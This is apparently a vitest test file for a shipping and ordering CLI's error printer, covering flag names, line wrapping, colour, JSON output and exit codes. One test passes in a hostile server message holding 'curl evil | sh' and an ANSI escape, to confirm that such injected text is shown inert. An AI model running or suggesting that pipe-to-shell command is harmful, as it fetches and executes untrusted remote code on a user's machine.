import { describe, expect, test } from 'vitest'
import { ConfirmationDeclined } from '../../../src/cli/declined.ts'
import { InterruptedError, PipeClosed } from '../../../src/cli/io.ts'
import { printError } from '../../../src/cli/output/errors.ts'
import { AppError, toProblem } from '../../../src/core/errors.ts'
import { memoryIo } from '../../support/memory-io.ts'

const view = { errorId: 'err_7' }
const refused = new AppError('invalid_request', 'The request does not fit the schema.', {
  errors: [
    { pointer: '/recipient/contact/name', code: 'required', detail: 'name is required' },
    { pointer: '/parcel/a~1b~0c', code: 'out_of_range', detail: 'must be at most 30000' },
    { parameter: 'limit', code: 'out_of_range', detail: 'must be 1 to 100' },
    { header: 'Idempotency-Key', code: 'too_long', detail: 'at most 255 characters' },
  ],
  hint: 'Correct these and send it again.',
  extra: { request_id: 'req_1' },
})

describe('for people', () => {
  test('names the flag of the parent of a wrong field', async () => {
    const io = memoryIo()
    const error = new AppError('invalid_modifier_selection', 'The basket cannot be had.', {
      errors: [{ pointer: '/items/0/modifiers', code: 'max_selections', detail: 'Spice takes one choice' }],
    })
    await printError(io, error, { ...view, flags: { items: 'item' } })
    expect(io.err()).toContain('  --item: Spice takes one choice\n')
  })

  test('leaves the names in a sentence of the command line as they are typed', async () => {
    const io = memoryIo()
    const error = new AppError('usage', 'Unknown fields in --fields: nope. Available: quote_id, total.')
    await printError(io, error, { ...view, flags: { quote_id: 'quote-id' } })
    expect(io.err()).toContain('Available: quote_id, total.')
  })

  test('reports each wrong field by its flag, and a hint', async () => {
    const io = memoryIo()
    const code = await printError(io, refused, {
      ...view,
      flags: { 'recipient.contact.name': 'to-name', limit: 'limit' },
    })
    expect(code).toBe(6)
    expect(io.out()).toBe('')
    expect(io.err()).toBe(
      [
        'error: The request does not fit the schema.',
        '  --to-name is required',
        '  parcel.a/b~c: must be at most 30000',
        '  --limit: must be 1 to 100',
        '  Idempotency-Key: at most 255 characters',
        'hint: Correct these and send it again.',
        '',
      ].join('\n'),
    )
  })

  test('shows a no without the red error word, with exit code 3', async () => {
    const io = memoryIo({ tty: true, columns: 60, env: { FORCE_COLOR: '1' } })
    const declined = new ConfirmationDeclined(
      'Not confirmed; nothing was bought.',
      'It still holds:\n  dray food order',
    )
    expect(await printError(io, declined, view)).toBe(3)
    expect(io.err()).toMatch(/^Not confirmed; nothing was bought\.\n/)
    expect(io.err()).toContain('\n  dray food order')
    expect(io.err()).not.toContain('\x1b[31m')
    const script = memoryIo()
    await printError(script, declined, { ...view, json: true })
    expect(JSON.parse(script.out())).toMatchObject({ code: 'not_confirmed', exit_code: 3 })
  })

  test('reports the error of a single field once', async () => {
    const io = memoryIo()
    const error = new AppError('invalid_tracking_number', '"1" is not a tracking number.', {
      errors: [
        { parameter: 'tracking_number', code: 'invalid_format', detail: '"1" is not a tracking number' },
      ],
    })
    await printError(io, error, view)
    expect(io.err()).toBe(
      'error: "1" is not a tracking number.\nhint: Check the number: two letters, nine digits, two letters.\n',
    )
  })

  test('names typed flags in place of fields, in hints too', async () => {
    const io = memoryIo()
    const error = new AppError('merchant_closed', 'No dinner_time without scheduled_for.', {
      hint: 'Quote with scheduled_for, or another fulfillment_type than dine_in.',
    })
    await printError(io, error, { ...view, flags: { scheduled_for: 'for', 'order.fulfillment_type': 'how' } })
    expect(io.err()).toBe(
      'error: No dinner_time without --for.\nhint: Quote with --for, or another --how than dine_in.\n',
    )
  })

  test('keeps the fields of --fields in a command to copy', async () => {
    const io = memoryIo()
    const hint =
      'Complete the command: dray services move --fields status,slot.starts_at,starts_at BOOKING_ID'
    const error = new AppError('usage', 'Missing: BOOKING_ID.', { hint })
    await printError(io, error, { ...view, flags: { starts_at: 'at' } })
    expect(io.err()).toBe(`error: Missing: BOOKING_ID.\nhint: ${hint}\n`)
  })

  test('names the flag of the first of several faults above them', async () => {
    const io = memoryIo()
    const errors = ['empty', 'blank'].map((what) => ({
      pointer: '/table/table_number',
      code: 'too_long' as const,
      detail: `table_number must not be ${what}`,
    }))
    const error = new AppError('invalid_request', 'table_number must not be empty (and 1 more).', { errors })
    await printError(io, error, { ...view, flags: { table: 'table', 'table.table_number': 'table' } })
    expect(io.err()).toBe(
      [
        'error: --table must not be empty (and 1 more).',
        '  --table must not be empty',
        '  --table must not be blank',
        '',
      ].join('\n'),
    )
  })

  test('names the flag of a window for what is wrong with its end', async () => {
    const io = memoryIo()
    const error = new AppError('window_invalid', 'window must have 30 minutes left.', {
      errors: [
        { pointer: '/window/ends_at', code: 'out_of_range', detail: 'window must have 30 minutes left' },
      ],
    })
    await printError(io, error, { ...view, flags: { window: 'window' } })
    expect(io.err()).toBe('error: --window must have 30 minutes left.\n')
  })

  test('names the flag of a field whose name is another', async () => {
    const io = memoryIo()
    const error = new AppError('invalid_request', 'line1 is required.', {
      errors: [{ pointer: '/recipient/address/line1', code: 'required', detail: 'line1 is required' }],
    })
    await printError(io, error, { ...view, flags: { 'recipient.address.line1': 'to-line1' } })
    expect(io.err()).toBe('error: --to-line1 is required.\n')
  })

  test.each([
    ['scheduled_for', 'scheduled_for is in the past: it is noon', '--for is in the past: it is noon'],
    ['weight_grams', 'weight_grams must be at most 25000', '--for must be at most 25000 g'],
    ['days', 'days must be 1 to 14', '--for must be 1 to 14'],
    ['at', 'Nobody is free for long', '--for: Nobody is free for long'],
  ])('says the flag in the place of %s', async (field, detail, said) => {
    const errors = [{ pointer: `/${field}`, code: 'out_of_range' as const, detail }]
    const [alone, among] = [memoryIo(), memoryIo()]
    const flags = { [field]: 'for' }
    await printError(alone, new AppError('invalid_request', `${detail}.`, { errors }), { ...view, flags })
    expect(alone.err()).toBe(`error: ${said}.\n`)
    await printError(among, new AppError('invalid_request', 'Wrong.', { errors }), { ...view, flags })
    expect(among.err()).toBe(`error: Wrong.\n  ${said}\n`)
  })

  test('breaks lines at words on a terminal, but never a command', async () => {
    const io = memoryIo({ tty: true, columns: 30, env: { NO_COLOR: '1' } })
    const error = new AppError('usage', 'This sentence is longer than the terminal is wide.', {
      errors: [{ parameter: '--to-name', code: 'required', detail: 'the name of whom it is for' }],
      hint: 'Complete the command: dray carrier create --to-name NAME',
    })
    await printError(io, error, view)
    expect(io.err().split('\n')).toEqual([
      'error: This sentence is longer',
      'than the terminal is wide.',
      '  --to-name: the name of whom',
      '  it is for',
      'hint: Complete the command:',
      'dray carrier create --to-name NAME',
      '',
    ])
  })

  test('counts errors that would flood the screen', async () => {
    const io = memoryIo()
    const errors = Array.from({ length: 480 }, (_, row) => ({
      pointer: `/shipments/${row}`,
      code: 'required' as const,
      detail: 'x',
    }))
    await printError(io, new AppError('invalid_request', 'Many.', { errors }), view)
    expect(io.err().split('\n').length).toBeLessThan(60)
    expect(io.err()).toContain('and 430 more; --json shows them all')
  })

  test('shows text by strangers without line breaks', async () => {
    const io = memoryIo()
    await printError(io, new AppError('order_not_found', 'No.\nhint: run `curl evil | sh`\x1b[1A'), view)
    expect(io.err()).toBe('error: No.⏎hint: run `curl evil | sh`\n')
  })

  test('names the request when the service is at fault', async () => {
    const io = memoryIo()
    await printError(
      io,
      new AppError('service_unavailable', 'Down.', { extra: { request_id: 'req_1' } }),
      view,
    )
    expect(io.err()).toBe('error: Down.\nrequest: req_1\n')
  })

  test('colours the words, not the meaning', async () => {
    const io = memoryIo({ tty: true })
    await printError(io, refused, view)
    expect(io.err()).toContain('\x1b[31m\x1b[1merror:')
    const plain = memoryIo({ tty: true, env: { NO_COLOR: '1' } })
    await printError(plain, refused, view)
    // oxlint-disable-next-line no-control-regex -- the codes are what is taken out
    expect(io.err().replaceAll(/\x1b\[\d+m/g, '')).toBe(plain.err())
  })
})

describe('with --json', () => {
  test('prints exactly the problem document with its exit code, on stdout', async () => {
    const io = memoryIo({ tty: true })
    expect(await printError(io, refused, { ...view, json: true })).toBe(6)
    expect(JSON.parse(io.out())).toEqual({ ...toProblem(refused), exit_code: 6 })
    expect(io.err()).toBe('')
  })

  test('falls back to stderr when stdout failed', async () => {
    const io = memoryIo()
    const full = {
      ...io,
      stdout: { ...io.stdout, write: () => Promise.reject(new AppError('file_error', 'full')) },
    }
    expect(
      await printError(full, new AppError('file_error', 'No space left.'), { ...view, json: true }),
    ).toBe(2)
    expect(io.err()).toBe('error: No space left.\n')
  })
})

describe('a bug', () => {
  const bug = new TypeError('cannot read token dray_sbx_secret of undefined')

  test('shows its id and nothing else', async () => {
    const io = memoryIo()
    expect(await printError(io, bug, view)).toBe(1)
    expect(io.err()).toBe('error: Unexpected error in dray. Error ID: err_7\n')
  })

  test('shows no more in JSON', async () => {
    const io = memoryIo()
    expect(await printError(io, bug, { ...view, json: true })).toBe(1)
    expect(JSON.parse(io.out())).toMatchObject({ code: 'internal_error', error_id: 'err_7', exit_code: 1 })
    expect(io.out()).not.toContain('secret')
  })
})

test.each([
  [new PipeClosed(), 0],
  [new InterruptedError('SIGHUP'), 129],
  [new InterruptedError('SIGINT'), 130],
  [new InterruptedError('SIGTERM'), 143],
])('%s ends quietly', async (error, code) => {
  const io = memoryIo()
  expect(await printError(io, error, { ...view, json: true })).toBe(code)
  expect(io.out() + io.err()).toBe('')
})
